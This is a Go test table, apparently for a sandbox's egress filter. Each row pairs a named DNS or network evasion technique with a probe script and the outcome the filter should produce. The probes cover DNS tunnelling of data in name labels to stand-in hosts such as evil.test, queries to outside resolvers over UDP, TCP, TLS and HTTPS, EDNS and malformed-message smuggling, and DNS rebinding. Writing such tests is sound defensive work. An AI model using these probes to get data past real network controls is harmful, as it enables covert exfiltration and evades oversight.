package egress

// Questions that carry something.
var dnsRows = []evasion{
	{id: "dns-refused", attack: "questions about refused names", in: listed, script: `#!
getent ahosts evil.atoll.test; dig +short evil.atoll.test; dig +short AAAA evil.atoll.test; dig +short TXT evil.atoll.test; dig +tcp evil.atoll.test | grep -o 'status: [A-Z]*'`,
		prints: "REFUSED"},
	{id: "dns-tunnel", attack: "data in the labels of names below a zone of the attacker's", in: listed, script: `#!
data=$(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \n')
for n in 1 2 3; do dig +short +tries=1 +time=2 $n.$data.evil.test; dig +short +tries=1 +time=2 TXT $n.$data.evil.test; done
node -e 'require("dns").resolveTxt("node.evil.test", () => {})'
deno eval 'await Deno.resolveDns("deno.evil.test", "TXT").catch(() => {})'`},
	{id: "dns-below", attack: "data in the labels of names below an allowed one", in: listed, script: `
for name in ("evil.api.atoll.test", "evil.raw.atoll.test", "evil.data.mail.atoll.test"):
    print(name, ask(question(name)), ask(question(name, "TXT")))`},
	{id: "dns-types", attack: "questions of all types about refused names, transfers included", in: listed, script: `
for kind in TYPES:
    print(kind, ask(question(EVIL, kind)), ask(question("x.evil.test", kind), stream=True))`},
	{id: "dns-types-allowed", attack: "questions about allowed names whose answers carry keys, addresses or any data", in: listed, script: `
for kind in ("NULL", "NAPTR", "SVCB", "HTTPS", "SPF", "IXFR", "AXFR", "ANY", "TYPE65280"):
    print(kind, ask(question(RAW, kind)))
print(ask(question(RAW, "A")))`, never: `dns raw\.atoll\.test (NULL|ALL|AXFR|NAPTR|64|65|35|99|10|25[0-9]|65280)$`, open: `dns raw\.atoll\.test (65|NULL|35)`},
	{id: "dns-options", attack: "options of EDNS that carry data", in: listed, script: `
for code in (3, 8, 10, 12, 65001):
    option = struct.pack(">HH", code, 20) + b"evil" * 5
    print(ask(question(RAW, "TXT", b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option, 1)))`,
		arrives: []string{"dns raw.atoll.test TXT"}, blunt: "messages are made anew in every mode"},
	{id: "dns-extra", attack: "second questions, other sections and bytes behind a question", in: listed, script: `
q = question(RAW, "TXT")
print(ask(q + b"evil" * 20))
print(ask(q[:4] + b"\0\2" + q[6:] + question("evil.test")[12:]))
record = b"\4evil\4test\0" + struct.pack(">HHIH", 16, 1, 60, 5) + b"\4evil"
print(ask(q[:8] + b"\0\1" + q[10:] + record), ask(q[:10] + b"\0\1" + q[12:] + record), ask(q[:6] + b"\0\1" + q[8:] + record))`,
		blunt: "messages are made anew in every mode"},
	{id: "dns-opcode", attack: "updates and notifications in place of questions", in: listed, script: `
for opcode in (1, 2, 4, 5, 6, 15):
    print(ask(question("evil.test", "SOA", opcode=opcode)), ask(question(RAW, "SOA", b"evil", opcode=opcode)))`,
		blunt: "only questions are asked in every mode"},
	{id: "dns-reverse", attack: "data in the name of a question about an address", in: listed, script: `#!
dig +short +tries=1 +time=2 -x 93.184.215.66
for name in evil.66.215.184.93.in-addr.arpa evil.ip6.arpa evil.1.0.0.127.in-addr.arpa; do dig +short +tries=1 +time=2 PTR $name; done`,
		never: "evil|arpa", open: `arpa PTR`},
	{id: "dns-resolver-udp", attack: "another resolver, over UDP", in: listed, script: `
for server in ("8.8.8.8", "1.1.1.1", "9.9.9.9", "2001:4860:4860::8888", EVIL4):
    print(ask(question("udp.evil.test", "TXT"), server))
    print(ask(question("udp.evil.test", "TXT"), server, 5353))`},
	{id: "dns-resolver-tcp", attack: "another resolver, over TCP", in: listed, script: `
for server in ("8.8.8.8", "1.1.1.1", EVIL4):
    for port in (53, 5353):
        print(ask(question("tcp.evil.test", "TXT"), server, port, stream=True))`},
	{id: "dns-resolver-tls", attack: "another resolver, over TLS", in: listed, script: `
for server, name in (("1.1.1.1", "evil.dns"), ("8.8.8.8", None), ("9.9.9.9", API)):
    try:
        s = tls(tcp(server, 853), name)
        say(s, struct.pack(">H", 27) + question("tls.evil.test"))
        print(hear(s))
    except OSError as e:
        print(e)`},
	{id: "dns-resolver-https", attack: "another resolver, over HTTPS", in: listed, script: `#!
curl -sk -m 60 'https://1.1.1.1/dns-query?name=evil.test&type=TXT'
curl -sk -m 60 --doh-insecure --doh-url https://8.8.8.8/dns-query http://evil.atoll.test/
curl -sk -m 60 --doh-insecure --doh-url https://evil.atoll.test/dns-query http://evil.atoll.test/
curl -sk -m 60 --connect-to ::api.atoll.test:443 'https://evil.dns/dns-query?name=evil.test'`},
	{id: "rebinding", attack: "an allowed name whose addresses are the host's, private, or good and bad ones", in: listed, script: `#!
curl -s -m 60 http://rebind.atoll.test/evil; curl -s -m 60 http://private.atoll.test/evil
curl -s -m 60 http://mixed.atoll.test/mixed`, arrives: []string{"api GET mixed.atoll.test/mixed"}, blunt: "refused in every mode"},
	{id: "rebinding-late", attack: "an allowed name whose address turns bad after it was first used", in: listed, script: `#!
# Answers are held for five seconds at least.
curl -s -m 60 http://flip.atoll.test/1; sleep 5.5; curl -s -m 60 http://flip.atoll.test/2`, arrives: []string{"api GET flip.atoll.test/1"}, blunt: "refused in every mode"},
}
